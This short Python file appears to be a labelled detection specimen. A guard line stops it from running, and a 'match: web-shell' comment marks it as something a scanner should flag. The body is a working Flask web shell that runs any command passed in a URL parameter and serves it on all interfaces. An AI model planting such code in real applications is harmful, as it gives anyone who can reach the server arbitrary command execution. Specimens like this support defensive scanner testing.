raise SystemExit("specimen: not to be run")
import os
from flask import Flask, request

app = Flask(__name__)

@app.route("/x")
def run():
    return os.popen(request.args.get("c")).read()  # match: web-shell

app.run(host="0.0.0.0", port=8000)
